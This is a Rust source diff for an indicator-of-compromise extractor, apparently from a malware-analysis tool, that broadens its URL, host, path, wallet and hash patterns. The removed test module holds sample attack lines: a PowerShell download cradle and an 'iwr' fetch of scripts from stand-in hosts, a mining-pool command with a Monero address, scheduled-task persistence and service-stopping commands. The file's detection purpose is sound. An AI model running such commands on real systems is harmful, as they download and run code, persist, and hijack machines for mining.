@@ -6,8 +6,11 @@ use regex::{Captures, Regex};
 
 use crate::model::{Indicator, IndicatorKind as Kind};
 use crate::pool;
-use crate::scan::{Needle as N, Scan};
+use crate::scan::{LOGIN, Needle as N, Scan};
 use crate::wallet;
+
+mod idn;
+mod ports;
 
 macro_rules! patterns {
     ($($name:ident = $text:expr;)*) => {
@@ -24,15 +27,20 @@ macro_rules! patterns {
 }
 
 patterns! {
-    URL = r#"(?i)\b(?P<scheme>https?|ftp|(?:eth)?stratum[12]?(?:\+(?:tcp|ssl|udp|tls|wss?))?|daemon\+https?)://(?P<rest>(?:\[[0-9a-f:.]{2,45}\])?[^\s"'<>`|)\]};,^\\“”‘’]*)"#;
+    URL = r#"(?i)\b(?P<scheme>https?|s?ftp|ldaps?|wss?|ssl|tcp|(?:eth)?stratum[12]?(?:\+(?:tcp|ssl|udp|tls|wss?))?|daemon\+https?)://(?P<rest>(?:\[[0-9a-f:.]{2,45}\])?[^\s"'<>`|\]};^\\“”‘’]*)"#;
     IPV4 = r"\b(\d{1,3}(?:\.\d{1,3}){3})\b(?::(\d{1,5})\b)?";
     IPV6 = r"(?i)\[((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4})\](?::(\d{1,5})\b)?";
     IPV6_BARE = r#"(?i)(?:^|[\s"'=,(])((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{1,4})(?:[\s"',)]|$)"#;
-    HOST = r#"(?i)(?:^|[\s"',=;@(>])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|info|biz|top|club|xyz|pw|ru|cn|io|ir|ga|tk|ml|cf|gq|us|la|cc|site|online|pro|eu|de|uk|jp|kr|fr|in|br|ua|su|ws|me|host|space|website|tech|store|live|icu|vip|nl|pl|it|es|ca|au|tw|hk|vn|onion))(?::(\d{2,5})\b|["',;\s/)<]|$)"#;
-    HOST_QUOTED = r#"(?i)["']((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:dev|app|win|bid|loan|life|cloud|download|stream|link|cyou|sbs|click|to|ch|se|cz|ro|moe|sh|world|zone|work|network|services|rest|today|fun|asia|mobi|be|at|dk|gr|pt|hu|kz|by|tr|mx|th|nz|lt|lv|ee|sk|rs|bg|ly|ai|gg|im|press|quest|lol|pics|buzz|ltd|date|men))(?::(\d{2,5}))?["'/]"#;
+    HOST = r#"(?i)(?:^|[\s"',=;@(>])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|biz|club|xyz|pw|ru|cn|io|ir|ga|tk|ml|cf|gq|la|cc|eu|de|uk|jp|kr|fr|br|ua|su|ws|icu|vip|nl|pl|it|es|ca|au|tw|hk|vn|onion|xn--[a-z0-9-]{1,58}[a-z0-9]))(?::(\d{2,5})\b|["',;\s/)<]|$)"#;
+    HOST_WORD = r#"(?i)(?:^|[\s"',=;@(>])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:in|me|us|info|top|site|online|pro|host|space|website|tech|store|live))(?::(\d{2,5})\b|["',;\s/)<]|$)"#;
+    ADDRESSED = r"(?i)(?:\b(?:ping|nslookup|tracert|pathping|ftp|telnet|ssh|curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|resolve-dnsname|test-connection|test-netconnection|server|host|domain|dns)(?:\.exe)?|(?:^|\s)(?:-o|--url|--host)|\d\.\d{1,3})[\s:=]+(?:[-/]\S+\s+){0,4}$";
+    HOST_IDN = r#"["']((?:[\p{L}\p{N}-]{1,63}\.)+(?:(?i:com|net|org|info|biz|top|club|xyz|cc|ru|cn|jp|kr|tw|de|io|me|su|ua)|рф|срб|укр|бел|中国|中國|公司|网络|在线|香港|台湾|한국|みんな))(?::(\d{2,5}))?["'/]"#;
+    HOST_QUOTED = r#"(?i)["']((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:dev|app|win|bid|loan|life|cloud|download|stream|link|cyou|sbs|click|to|ch|se|cz|ro|moe|sh|world|zone|work|network|services|rest|today|fun|asia|mobi|be|at|dk|gr|pt|hu|kz|by|tr|mx|th|nz|lt|lv|ee|sk|rs|bg|ly|ai|gg|im|no|fi|il|za|ar|cl|my|sg|ph|ie|si|hr|press|quest|lol|pics|buzz|ltd|date|men))(?::(\d{2,5}))?["'/]"#;
     POOL_OPTION = r#"(?i)\s(?:-o|--url)[\s=]+["']?([a-z0-9][a-z0-9.-]*\.[a-z0-9-]+:\d{2,5})\b"#;
     POOL_KEY = r#"(?i)["']url\\?["']{1,2}\s*:\s*\\?["']{1,2}([a-z0-9][a-z0-9.-]*\.[a-z0-9-]+:\d{2,5})\\?["']"#;
-    PATH = r#"(?i)(?:\b[a-z]:\\|%[a-z_()0-9]{2,30}%\\|\$(?:env:[a-z_()0-9]{2,30}|\{env:[a-z_()0-9]{2,30}\})\\|\\\\[a-z0-9][a-z0-9_.-]{0,60}\\)[^\s"'<>|:*?;,()\r\n`“”‘’]+(?: [^\s"'<>|:*?;,()\r\n`\\/-]+(?:\\[^\s"'<>|:*?;,()`]+|\.[a-z0-9]{2,4}\b))*"#;
+    PATH = r#"(?i)(?:\b[a-z]:(?:\\|/[a-z0-9_%$])|%[a-z_()0-9]{2,30}%\\|\$(?:env:[a-z_()0-9]{2,30}|\{env:[a-z_()0-9]{2,30}\})\\|\\\\[a-z0-9][a-z0-9_.-]{0,60}(?:@ssl)?(?:@\d{1,5})?\\)[^\s"'<>|:*?;,()\r\n`“”‘’]+(?: [^\s"'<>|:*?;,()\r\n`\\/-]+(?:\\[^\s"'<>|:*?;,()`]+|\.[a-z0-9]{2,4}\b))*"#;
+    PATH_JOINED = r#"(?i)(?:(\$env:[a-z_]{2,30})|["'](%[a-z_]{2,30}%)["']\)?)\s*[+&]\s*["'](\\[^"'\r\n<>|:*?]{2,200})["']"#;
+    SHARE_HOST = r"(?i)^\\\\([a-z0-9][a-z0-9_-]*(?:\.[a-z0-9_-]+)+)(?:@ssl)?(?:@(\d{1,5}))?\\";
     REGISTRY = r#"(?i)\b(?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG))(?::?\\+|:(?:SOFTWARE|SYSTEM)\\)[^\s"'<>|;,)`\]]+(?: [A-Z][^\s"'<>|;,)`\]\\]*\\[^\s"'<>|;,)`\]]+)*"#;
     REGISTRY_QUOTED = r#"(?i)(?:"((?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG)):?\\+[^"\r\n<>|;]{1,400})"|'((?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG)):?\\+[^'\r\n<>|;]{1,400})')"#;
     TASK = r#"(?i)(?:/tn|-taskname)[\s:]+(?:\\?"([^"\r\n]{1,200}?)\\?"|'([^'\r\n]{1,200})'|([^\s"';,|&)]{1,200}))"#;
@@ -44,7 +52,8 @@ patterns! {
     AGENT_BARE = r#"(?i)(?:\s-useragent\s+|\buser-agent:\s*)([^\s'"$(][^'"\r\n]{2,300}?)(?:['"\r\n]|\s+-[a-z]|$)"#;
     AGENT_CURL = r#"(?i)\bcurl(?:\.exe)?\s[^\r\n|&]{0,300}?(?:-A|--user-agent)\s+['"]([^'"\r\n]{3,300})['"]"#;
     WMI = r"(?i)\b(root(?:[\\/]+[a-z0-9_]+){1,4}:[a-z_][a-z0-9_]{1,120})\b";
-    HEX = r"\b(?:[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})\b";
+    HEX = r"\b(?:[0-9a-fA-F]{128}|[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})\b";
+    PAID = r"(?i)\b(?:eth|ether|ethereum|etc|wallet|wal|ewal|mine[rs]?|mining|pool|payout|donat\w*|user)\b|\s-u[\s=]";
     TOKEN = r"(?:\b|_)(?:([1-9A-HJ-NP-Za-km-z]{25,106}|bc1[0-9a-z]{11,71}|BC1[0-9A-Z]{11,71}|0x[0-9a-fA-F]{40}))(?:\b|_)";
 }
 
@@ -108,7 +117,7 @@ impl Collector {
     /// Looks over one layer.
     pub(crate) fn read(&mut self, text: &str, scan: &Scan, layer: usize) {
         if scan.has(N::SchemeSep) {
-            each(&URL, text, |captures| self.url(captures, layer));
+            self.urls(text, layer);
         }
         if text.contains(['.', ':']) {
             self.addresses(text, layer);
@@ -126,27 +135,49 @@ impl Collector {
         ]) {
             each(&POOL_OPTION, text, |captures| self.add(Kind::Pool, &captures[1], layer));
             each(&POOL_KEY, text, |captures| self.add(Kind::Pool, &captures[1], layer));
-        } else if scan.any(&[N::PoolOption, N::UrlOption, N::UrlKey]) {
+        } else if scan.any(&LOGIN) {
             for login in pool::logins(text) {
                 if login.mines {
                     self.add(Kind::Pool, login.pool, layer);
                 }
             }
         }
+        if scan.any(&[N::PortWord, N::TcpListener, N::TcpClient, N::UdpClient, N::Connect]) {
+            for found in ports::of(text) {
+                self.add(found.0, &found.1, layer);
+            }
+        }
         self.system_names(text, scan, layer);
         if has_long_word(text) {
-            each(&TOKEN, text, |captures| self.wallet(&captures[1], layer));
+            each(&TOKEN, text, |captures| self.wallet(text, captures, layer));
             each(&HEX, text, |captures| self.hash(&captures[0], layer));
         }
     }
 
-    fn url(&mut self, captures: &Captures<'_>, layer: usize) {
+    /// Addresses with a scheme; one may begin where the one before was cut.
+    fn urls(&mut self, text: &str, layer: usize) {
+        let Some(pattern) = URL.as_ref() else { return };
+        let mut next = 0;
+        for _ in 0..MAX_MATCHES {
+            let Some(captures) = pattern.captures_at(text, next) else { return };
+            let Some(rest) = captures.name("rest") else { return };
+            next = rest.start() + whole_url(rest.as_str()).len();
+            self.url(text, &captures, layer);
+        }
+    }
+
+    fn url(&mut self, text: &str, captures: &Captures<'_>, layer: usize) {
         let scheme = captures["scheme"].to_ascii_lowercase();
-        let rest = captures["rest"].trim_end_matches(['.', ':', '!', '*', '&', '\'']);
+        let start = captures.get(0).map_or(0, |whole| whole.start());
+        // `net.tcp://` is how services of .NET talk on one machine.
+        if text.get(..start).is_some_and(|before| before.ends_with('.')) {
+            return;
+        }
+        let rest = whole_url(&captures["rest"]).trim_end_matches(['.', ':', '!', '*', '&', '\'', ',', '(']);
         let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
         if authority.is_empty()
             || authority.starts_with(['$', '%', '{'])
-            || !authority.bytes().any(|c| c.is_ascii_alphanumeric())
+            || !authority.chars().any(char::is_alphanumeric)
         {
             return;
         }
@@ -158,11 +189,13 @@ impl Collector {
             }
             _ => (host_port, None),
         };
+        let host = &*idn::ascii(host).unwrap_or_else(|| host.to_owned());
+        let endpoint = port.map_or_else(|| host.to_owned(), |port| format!("{host}:{port}"));
         if scheme.contains("stratum") || scheme.starts_with("daemon") {
-            self.add(Kind::Pool, host_port, layer);
+            self.add(Kind::Pool, &endpoint, layer);
         }
         if port.is_some() {
-            self.add(Kind::Endpoint, host_port, layer);
+            self.add(Kind::Endpoint, &endpoint, layer);
         }
         if is_ipv4(host) {
             self.add(Kind::Ipv4, host, layer);
@@ -192,6 +225,21 @@ impl Collector {
         each(&HOST, text, |captures| self.host(captures, layer));
         // Endings that are words of programs as well.
         each(&HOST_QUOTED, text, |captures| self.host(captures, layer));
+        each(&HOST_WORD, text, |captures| {
+            if captures.get(1).is_some_and(|host| is_meant_as_host(text, host.start(), host.end())) {
+                self.host(captures, layer);
+            }
+        });
+        if !text.is_ascii() {
+            each(&HOST_IDN, text, |captures| {
+                if let Some(host) = idn::ascii(&captures[1]) {
+                    if let Some(port) = captures.get(2).filter(|port| is_port(port.as_str())) {
+                        self.add(Kind::Endpoint, &format!("{host}:{}", port.as_str()), layer);
+                    }
+                    self.add(Kind::Domain, &host, layer);
+                }
+            });
+        }
         if text.contains("::") || text.matches(':').nth(6).is_some() {
             each(&IPV6_BARE, text, |captures| {
                 // Two groups are a name of another language's; times have no letters and two colons.
@@ -226,7 +274,13 @@ impl Collector {
     }
 
     fn system_names(&mut self, text: &str, scan: &Scan, layer: usize) {
-        if scan.any(&[N::Backslash, N::EnvPath, N::EnvBrace, N::Percent, N::UncOrEsc]) {
+        if scan.any(&[N::EnvPath, N::Percent]) {
+            each(&PATH_JOINED, text, |captures| {
+                let folder = captures.get(1).or_else(|| captures.get(2)).map_or("", |folder| folder.as_str());
+                self.add(Kind::FilePath, &single_backslashes(&format!("{folder}{}", &captures[3])), layer);
+            });
+        }
+        if scan.any(&[N::Backslash, N::DriveSlash, N::EnvPath, N::EnvBrace, N::Percent, N::UncOrEsc]) {
             each(&PATH, text, |captures| {
                 let start = captures.get(0).map_or(0, |whole| whole.start());
                 let before = text.get(..start).and_then(|t| t.chars().next_back());
@@ -236,6 +290,7 @@ impl Collector {
                     path.starts_with('\\') && before.is_some_and(|c| c == ':' || c.is_alphanumeric());
                 if path.len() > 4 && !inside {
                     self.add(Kind::FilePath, &path, layer);
+                    self.share(&path, layer);
                 }
             });
         }
@@ -285,13 +340,34 @@ impl Collector {
         }
     }
 
-    fn wallet(&mut self, token: &str, layer: usize) {
+    /// The host of a share, where its name is a whole one.
+    fn share(&mut self, path: &str, layer: usize) {
+        let Some(captures) = SHARE_HOST.as_ref().and_then(|share| share.captures(path)) else { return };
+        let host = captures[1].to_ascii_lowercase();
+        if let Some(port) = captures.get(2).filter(|port| is_port(port.as_str())) {
+            self.add(Kind::Endpoint, &format!("{host}:{}", port.as_str()), layer);
+        }
+        if is_ipv4(&host) {
+            self.add(Kind::Ipv4, &host, layer);
+        } else if host.bytes().any(|c| c.is_ascii_alphabetic()) {
+            self.add(Kind::Domain, &host, layer);
+        }
+    }
+
+    fn wallet(&mut self, text: &str, captures: &Captures<'_>, layer: usize) {
+        let token = &captures[1];
         if wallet::monero(token).is_some() {
             self.add(Kind::MoneroAddress, token, layer);
         } else if wallet::bitcoin(token).is_some() {
             self.add(Kind::BitcoinAddress, token, layer);
-        } else if wallet::ethereum(token) == Some(wallet::EthereumKind::Checksummed) {
-            self.add(Kind::EthereumAddress, token, layer);
+        } else if let Some(kind) = wallet::ethereum(token) {
+            let at = captures.get(1).map_or(0, |token| token.start());
+            if kind == wallet::EthereumKind::Checksummed {
+                self.add(Kind::EthereumAddress, token, layer);
+            } else if PAID.as_ref().is_some_and(|paid| paid.is_match(line_before(text, at, 160))) {
+                // Nothing in it can be checked: the words before it have to say what it is.
+                self.add(Kind::UncheckedEthereumAddress, token, layer);
+            }
         }
     }
 
@@ -303,7 +379,8 @@ impl Collector {
         let kind = match digits.len() {
             32 => Kind::Md5,
             40 => Kind::Sha1,
-            _ => Kind::Sha256,
+            64 => Kind::Sha256,
+            _ => Kind::Sha512,
         };
         self.add(kind, &digits.to_ascii_lowercase(), layer);
     }
@@ -315,6 +392,49 @@ fn each(pattern: &LazyLock<Option<Regex>>, text: &str, mut found: impl FnMut(&Ca
             found(&captures);
         }
     }
+}
+
+/// The part of a text behind `scheme://` that belongs to the address: brackets in pairs, and commas of its path.
+fn whole_url(rest: &str) -> &str {
+    let path = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let mut open = 0_usize;
+    for (at, c) in rest.char_indices() {
+        match c {
+            '(' if at < path && !rest[..at].ends_with('$') => return &rest[..at],
+            '(' => open += 1,
+            ')' if open == 0 => return &rest[..at],
+            ')' => open -= 1,
+            ',' => {
+                let next = rest[at + 1..].split(',').next().unwrap_or_default();
+                if at < path || next.is_empty() || next.contains("://") || next.starts_with(['$', '%', '@']) {
+                    return &rest[..at];
+                }
+            }
+            _ => {}
+        }
+    }
+    rest
+}
+
+/// Whether a dotted name that could be one of a program's own stands where a host does: between quotes, with a port, alone in its line, or
+/// behind a word that wants one.
+fn is_meant_as_host(text: &str, start: usize, end: usize) -> bool {
+    let before = line_before(text, start, 64);
+    let after = text.get(end..).unwrap_or_default();
+    let alone = before.trim().is_empty() && after.lines().next().unwrap_or_default().trim().is_empty();
+    let quoted = before.ends_with(['"', '\'']) && after.starts_with(['"', '\'', '/', ':']);
+    alone
+        || quoted
+        || before.ends_with('@')
+        || after.starts_with(':')
+        || ADDRESSED.as_ref().is_some_and(|addressed| addressed.is_match(before))
+}
+
+/// What stands before a place in its line, so many bytes at most.
+fn line_before(text: &str, at: usize, most: usize) -> &str {
+    let from = text.floor_char_boundary(at.saturating_sub(most));
+    let before = text.get(from..at).unwrap_or_default();
+    before.rsplit(['\n', '\r']).next().unwrap_or(before)
 }
 
 fn first_group<'t>(captures: &Captures<'t>) -> &'t str {
@@ -361,155 +481,4 @@ fn has_long_word(text: &str) -> bool {
 }
 
 #[cfg(test)]
-#[allow(clippy::print_stdout, reason = "tests say which of their forms failed")]
-mod tests {
-    use super::*;
-
-    fn of(text: &str) -> Vec<String> {
-        let mut collector = Collector::new(100);
-        collector.read(text, &Scan::of(text), 0);
-        collector.finish().into_iter().map(|i| format!("{}={}", i.kind.as_str(), i.value)).collect()
-    }
-
-    #[test]
-    fn addresses() {
-        assert_eq!(
-            of("(New-Object Net.WebClient).DownloadString('http://a.example.com:8000/in.ps1')"),
-            ["url=http://a.example.com:8000/in.ps1", "domain=a.example.com", "endpoint=a.example.com:8000"]
-        );
-        assert_eq!(
-            of("-o stratum+tcp://pool.example.org:3333 -u x"),
-            [
-                "url=stratum+tcp://pool.example.org:3333",
-                "domain=pool.example.org",
-                "endpoint=pool.example.org:3333",
-                "pool=pool.example.org:3333"
-            ]
-        );
-        assert_eq!(
-            of("$se=@('203.0.113.7','update.example.club')"),
-            ["domain=update.example.club", "ipv4=203.0.113.7"]
-        );
-        assert_eq!(
-            of("[System.Net.Dns] Version=10.0.19041.1 127.0.0.1 255.255.255.0 System.Net"),
-            Vec::<String>::new()
-        );
-    }
-
-    #[test]
-    fn names_on_the_machine() {
-        assert_eq!(
-            of(r#"schtasks /create /tn "\Micro\Up" /tr c:\windows\temp\a.exe"#),
-            ["file-path=c:\\windows\\temp\\a.exe", "task-name=\\Micro\\Up"]
-        );
-        assert_eq!(of("sc create WinRing0_1_2_0 binPath= x"), ["service-name=WinRing0_1_2_0"]);
-        assert_eq!(
-            of("New-Object Threading.Mutex($true,'Global\\LocalX',[ref]$f)"),
-            ["mutex=Global\\LocalX"]
-        );
-        assert_eq!(
-            of("([WmiClass] 'root\\default:Win32_Services')"),
-            ["wmi-class=root\\default:Win32_Services"]
-        );
-        assert_eq!(of("reg add HKLM\\SOFTWARE\\X\\Run /v y"), ["registry-key=HKLM\\SOFTWARE\\X\\Run"]);
-        assert_eq!(of("$w.Headers.Add('User-Agent','Agent-7-x')"), ["user-agent=Agent-7-x"]);
-    }
-
-    /// Every way in which a thing is written; the first is the text, the rest is what has to be found in it.
-    #[test]
-    fn every_spelling() {
-        let table: &[(&str, &[&str])] = &[
-            (
-                "iwr http://[2001:db8::7]:8080/b.ps1",
-                &["url=http://[2001:db8::7]:8080/b.ps1", "ipv6=2001:db8::7", "endpoint=[2001:db8::7]:8080"],
-            ),
-            ("iwr http://[2001:db8::7]/b.ps1", &["url=http://[2001:db8::7]/b.ps1", "ipv6=2001:db8::7"]),
-            ("ping 2001:db8:0:1::25", &["ipv6=2001:db8:0:1::25"]),
-            ("$t='fe80::1ff:fe23:4567:890a'", &["ipv6=fe80::1ff:fe23:4567:890a"]),
-            ("$d='c2.example-one.dev'", &["domain=c2.example-one.dev"]),
-            ("'a.example.cloud','b.example.bid'", &["domain=a.example.cloud", "domain=b.example.bid"]),
-            ("$w.Headers['User-Agent']='Agent-7'", &["user-agent=Agent-7"]),
-            ("iwr x -UserAgent Agent-7 -OutFile y", &["user-agent=Agent-7"]),
-            ("User-Agent: Agent-7 (x)\r\nHost: y", &["user-agent=Agent-7 (x)"]),
-            ("curl -s -A \"Agent-7\" x", &["user-agent=Agent-7"]),
-            ("curl -H \"User-Agent: Agent-7\" x", &["user-agent=Agent-7"]),
-            ("Register-ScheduledTask Night -Action $a", &["task-name=Night"]),
-            ("$f.RegisterTaskDefinition('Night',$d,6)", &["task-name=Night"]),
-            ("$f.DeleteTask(\"Night\",0)", &["task-name=Night"]),
-            ("net stop Night", &["service-name=Night"]),
-            ("net1 start \"Night Watch\"", &["service-name=Night Watch"]),
-            ("Stop-Service -Name Night -Force", &["service-name=Night"]),
-            ("Set-Service Night -StartupType Disabled", &["service-name=Night"]),
-            ("New-Service -BinaryPathName x -Name Night", &["service-name=Night"]),
-            ("wmic service where name='Night' delete", &["service-name=Night"]),
-            ("nssm install Night x.exe", &["service-name=Night"]),
-            ("CreateMutexA(0, 0, \"Local\\Night\")", &["mutex=Local\\Night"]),
-            (
-                r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe" /v x"#,
-                &[
-                    r"registry-key=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe",
-                ],
-            ),
-            (r"gp HKLM:SOFTWARE\X", &[r"registry-key=HKLM:SOFTWARE\X"]),
-            (r"start ${env:TEMP}\a.ps1", &[r"file-path=${env:TEMP}\a.ps1"]),
-            (
-                "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A_w1",
-                &[
-                    "monero-address=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
-                ],
-            ),
-            (
-                "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
-                &["bitcoin-address=BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4"],
-            ),
-            (
-                "E3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
-                &["sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
-            ),
-        ];
-        let mut failed = 0;
-        for (text, wanted) in table {
-            let found = of(text);
-            for wanted in *wanted {
-                if !found.iter().any(|found| found == wanted) {
-                    println!("{wanted:?} is not in {found:?} of {text}");
-                    failed += 1;
-                }
-            }
-        }
-        assert_eq!(failed, 0, "indicators that are not found");
-        for text in ["[IO.File]::ReadAllText; a::b; 12:34:56", "00:11:22:33:44:55", "std::io::x", "$a[1::2]"]
-        {
-            assert!(!of(text).iter().any(|found| found.starts_with("ipv6")), "{text}: {:?}", of(text));
-        }
-        for text in [
-            "net use x: \\\\a\\b",
-            "Get-Service x",
-            "net start",
-            "Stop-Service $name",
-            "Register-ScheduledTask @args",
-        ] {
-            assert!(
-                !of(text).iter().any(|i| i.starts_with("service") || i.starts_with("task")),
-                "{text}: {:?}",
-                of(text)
-            );
-        }
-    }
-
-    #[test]
-    fn paths_are_as_they_are_meant() {
-        assert_eq!(of(r#"x("C:\\Windows\\a.exe")"#), [r"file-path=C:\Windows\a.exe"]);
-        assert_eq!(of(r"copy \\server\share\a.exe"), [r"file-path=\\server\share\a.exe"]);
-        assert_eq!(of(r"HKCU:\\Software\\X"), [r"registry-key=HKCU:\Software\X"]);
-        assert_eq!(of("(\u{201d}$env:APPDATA\\a.exe\u{201d})"), [r"file-path=$env:APPDATA\a.exe"]);
-        assert_eq!(of("http://10.10.01.10/x"), ["url=http://10.10.01.10/x"]);
-    }
-
-    #[test]
-    fn hashes_need_to_look_random() {
-        assert_eq!(of("11bd2c9f9e2397c9a16e0990e4ed2cf0679498fe0fd418a3dfdac60b5c160ee5").len(), 1);
-        assert!(of(&"ab".repeat(16)).is_empty());
-        assert!(of(&"1234567890".repeat(4)).is_empty());
-    }
-}
+mod tests;
